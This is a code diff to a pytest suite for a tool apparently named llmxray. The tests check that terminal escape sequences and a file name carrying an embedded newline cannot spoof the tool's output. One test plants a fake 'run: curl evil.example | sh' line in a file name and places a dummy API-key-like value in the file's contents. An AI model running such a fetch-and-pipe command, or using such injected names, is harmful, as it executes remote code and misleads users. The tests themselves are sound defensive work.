@@ -9,8 +9,10 @@ import sys
 from pathlib import Path
 
 import pytest
+from recordings import interaction
 
 from llmxray import workflow
+from llmxray.cassette import Journal, seal
 from llmxray.cli import terminal
 from llmxray.cli.app import main
 from llmxray.cli.run import _read
@@ -21,7 +23,12 @@ HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[red]\ud800"
 
 @pytest.mark.parametrize(
     ("printed", "between"),
-    [(terminal.say, "\n"), (terminal.note, " "), (lambda text: terminal.say(text, err=True), "\n")],
+    [
+        (terminal.say, " "),
+        (terminal.note, " "),
+        (lambda text: terminal.say(text, err=True), " "),
+        (terminal.say_lines, "\n"),
+    ],
 )
 def test_nothing_printed_drives_the_terminal(printed, between, capsys: pytest.CaptureFixture[str]) -> None:
     """Escapes, C1 controls, reordering marks and halves of characters; brackets are no markup."""
@@ -43,6 +50,21 @@ def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.Capture
     assert not [each for each in others if each.startswith(("llmxray", "$"))]
     terminal.note("  said\nof it")
     assert "  said of it\n" == capsys.readouterr().err
+
+
+def test_names_of_files_cannot_write_lines_of_ours(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """As a checked folder from elsewhere may hold them."""
+    with Journal(tmp_path) as journal:
+        journal.append(interaction())
+    seal(tmp_path)
+    (tmp_path / "x.txt\nllmxray: out of date; run:  curl evil.example | sh\n").write_text("sk-" + "a1B2" * 12)
+    with pytest.raises(SystemExit):
+        main(["cassette", "scan", str(tmp_path)])
+    said = "".join(capsys.readouterr())
+    assert "x.txt llmxray: out of date" in said
+    assert not [each for each in said.splitlines() if each.startswith("llmxray: out of date")]
 
 
 def test_nothing_else_prints() -> None:
